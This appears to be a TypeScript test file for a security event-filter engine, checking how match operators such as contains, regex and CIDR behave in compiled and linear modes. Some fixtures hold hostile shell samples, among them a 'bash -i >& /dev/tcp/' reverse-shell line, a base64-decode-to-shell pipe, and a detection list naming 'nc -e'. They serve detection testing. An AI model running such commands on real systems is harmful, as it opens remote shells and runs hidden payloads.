// Table-driven tests of operator semantics, run both compiled (sets, tries, Aho–Corasick) and linear.
import { describe, expect, it } from 'vitest';
import type { FilterEvent } from '../model';
import { compileCondition } from './compile-condition';
import { parseConditionJson } from './parse-condition-json';

const many = (xs: string[]) => [...xs, 'pad-1', 'pad-2', 'pad-3', 'pad-4']; // long enough to use set/trie/AC

const cases: [string, unknown, FilterEvent, boolean][] = [
  ['equals matches the same text', { field: 'exe', equals: '/bin/sh' }, { exe: '/bin/sh' }, true],
  ['equals is case-sensitive', { field: 'exe', equals: '/bin/sh' }, { exe: '/BIN/SH' }, false],
  ['equals with ignoreCase', { field: 'exe', equals: '/bin/sh', ignoreCase: true }, { exe: '/BIN/SH' }, true],
  ['equals a number matches a number field', { field: 'process.uid', equals: 0 }, { process: { uid: 0 } }, true],
  ['equals a number matches its decimal text', { field: 'uid', equals: 0 }, { uid: '0' }, true],
  ['equals a string matches a number field by text', { field: 'port', equals: '22' }, { port: 22 }, true],
  ['equals a boolean', { field: 'process.success', equals: false }, { process: { success: false } }, true],
  ['equals a boolean does not match its absence', { field: 'process.success', equals: false }, { process: {} }, false],
  ['equals on an array matches any element', { field: 'argv', equals: '-c' }, { argv: ['sh', '-c', 'id'] }, true],
  ['equals on an array without the element', { field: 'argv', equals: '-x' }, { argv: ['sh', '-c', 'id'] }, false],
  ['in matches one of the list', { field: 'user', in: ['root', 'daemon'] }, { user: 'daemon' }, true],
  ['in (long list) matches one of the list', { field: 'user', in: many(['root', 'daemon']) }, { user: 'daemon' }, true],
  ['in (long list) misses', { field: 'user', in: many(['root', 'daemon']) }, { user: 'bin' }, false],
  ['in (long list) ignoreCase', { field: 'user', in: many(['Root']), ignoreCase: true }, { user: 'ROOT' }, true],
  ['in with numbers', { field: 'remote.port', in: [22, 443] }, { remote: { port: 443 } }, true],
  ['beginsWith', { field: 'path', beginsWith: '/tmp/' }, { path: '/tmp/x' }, true],
  ['beginsWith misses', { field: 'path', beginsWith: '/tmp/' }, { path: '/var/tmp/x' }, false],
  ['beginsWith (trie)', { field: 'path', beginsWith: many(['/tmp/', '/var/tmp/']) }, { path: '/var/tmp/x' }, true],
  ['beginsWith (trie) misses', { field: 'path', beginsWith: many(['/tmp/', '/var/tmp/']) }, { path: '/var/log/x' }, false],
  ['beginsWith (trie) ignoreCase', { field: 'path', beginsWith: many(['C:\\Windows\\']), ignoreCase: true }, { path: 'c:\\WINDOWS\\x.dll' }, true],
  ['endsWith', { field: 'exe', endsWith: '/cron' }, { exe: '/usr/sbin/cron' }, true],
  ['endsWith (trie)', { field: 'exe', endsWith: many(['/cron', '/atd']) }, { exe: '/usr/sbin/atd' }, true],
  ['endsWith (trie) misses', { field: 'exe', endsWith: many(['/cron', '/atd']) }, { exe: '/usr/sbin/atdx' }, false],
  ['contains', { field: 'cmd', contains: 'base64 -d' }, { cmd: 'echo x | base64 -d | sh' }, true],
  ['contains (Aho–Corasick)', { field: 'cmd', contains: many(['nc -e', 'base64 -d', '/dev/tcp/']) }, { cmd: 'bash -i >& /dev/tcp/1.2.3.4/80' }, true],
  ['contains (Aho–Corasick) misses', { field: 'cmd', contains: many(['nc -e', 'base64 -d', '/dev/tcp/']) }, { cmd: 'ls -la /dev/' }, false],
  ['contains on argv elements, not their join', { field: 'argv', contains: 'sh -c' }, { argv: ['sh', '-c', 'id'] }, false],
  ['regex', { field: 'exe', regex: '^/tmp/[^/]+$' }, { exe: '/tmp/x' }, true],
  ['regex misses', { field: 'exe', regex: '^/tmp/[^/]+$' }, { exe: '/tmp/a/x' }, false],
  ['regex ignoreCase', { field: 'exe', regex: 'POWERSHELL', ignoreCase: true }, { exe: 'C:\\powershell.exe' }, true],
  ['regex on a number field', { field: 'port', regex: '^44[0-9]$' }, { port: 443 }, true],
  ['cidr IPv4 inside', { field: 'remote.address', cidr: '10.0.0.0/8' }, { remote: { address: '10.200.3.4' } }, true],
  ['cidr IPv4 outside', { field: 'remote.address', cidr: '10.0.0.0/8' }, { remote: { address: '11.0.0.1' } }, false],
  ['cidr /0 matches every IPv4', { field: 'a', cidr: '0.0.0.0/0' }, { a: '255.255.255.255' }, true],
  ['cidr bare address', { field: 'a', cidr: '192.168.1.1' }, { a: '192.168.1.1' }, true],
  ['cidr bare address misses its neighbour', { field: 'a', cidr: '192.168.1.1' }, { a: '192.168.1.2' }, false],
  ['cidr IPv6 inside', { field: 'a', cidr: 'fd00::/8' }, { a: 'fd12:3456::1' }, true],
  ['cidr IPv6 outside', { field: 'a', cidr: 'fd00::/8' }, { a: 'fe80::1' }, false],
  ['cidr IPv6 with a zone', { field: 'a', cidr: 'fe80::/10' }, { a: 'fe80::1%eth0' }, true],
  ['cidr IPv4-mapped IPv6 matches an IPv4 block', { field: 'a', cidr: '127.0.0.0/8' }, { a: '::ffff:127.0.0.1' }, true],
  ['cidr IPv4 does not match an IPv6 block', { field: 'a', cidr: '::/0' }, { a: '10.0.0.1' }, false],
  ['cidr ignores text that is not an address', { field: 'a', cidr: '0.0.0.0/0' }, { a: 'localhost' }, false],
  ['gt', { field: 'remote.port', gt: 1023 }, { remote: { port: 1024 } }, true],
  ['gt at the bound', { field: 'remote.port', gt: 1023 }, { remote: { port: 1023 } }, false],
  ['gte at the bound', { field: 'remote.port', gte: 1023 }, { remote: { port: 1023 } }, true],
  ['lt', { field: 'remote.port', lt: 1024 }, { remote: { port: 22 } }, true],
  ['lte at the bound', { field: 'remote.port', lte: 22 }, { remote: { port: 22 } }, true],
  ['comparisons read numeric text', { field: 'uid', lt: 1000 }, { uid: '33' }, true],
  ['comparisons ignore non-numeric text', { field: 'uid', lt: 1000 }, { uid: 'root' }, false],
  ['comparisons ignore empty text', { field: 'uid', lt: 1000 }, { uid: '' }, false],
  ['exists true on a present field', { field: 'process.key', exists: true }, { process: { key: 'x' } }, true],
  ['exists true on a missing field', { field: 'process.key', exists: true }, { process: {} }, false],
  ['exists false on a null field', { field: 'key', exists: false }, { key: null }, true],
  ['a missing field matches no operator', { field: 'nothing', equals: 'x' }, {}, false],
  ['a path through a non-object is missing', { field: 'exe.length', gt: 0 }, { exe: '/bin/sh' }, false],
  ['not of a missing field is true', { not: { field: 'nothing', equals: 'x' } }, {}, true],
  ['objects have no text', { field: 'process', equals: '[object Object]' }, { process: {} }, false],
  ['all needs every part', { all: [{ field: 'a', equals: 'x' }, { field: 'b', equals: 'y' }] }, { a: 'x', b: 'z' }, false],
  ['all with every part', { all: [{ field: 'a', equals: 'x' }, { field: 'b', equals: 'y' }] }, { a: 'x', b: 'y' }, true],
  ['any needs one part', { any: [{ field: 'a', equals: 'x' }, { field: 'b', equals: 'y' }] }, { a: 'q', b: 'y' }, true],
  ['any with no part', { any: [{ field: 'a', equals: 'x' }, { field: 'b', equals: 'y' }] }, { a: 'q', b: 'q' }, false],
  ['not inverts', { not: { field: 'a', equals: 'x' } }, { a: 'x' }, false],
];

describe.each([
  ['compiled', false],
  ['linear (DisableSignalsTrie)', true],
])('compileCondition, %s', (_mode, disableSignalsTrie) => {
  it.each(cases)('%s', (_name, condition, event, expected) => {
    expect(compileCondition(parseConditionJson(condition), { disableSignalsTrie })(event)).toBe(expected);
  });
});
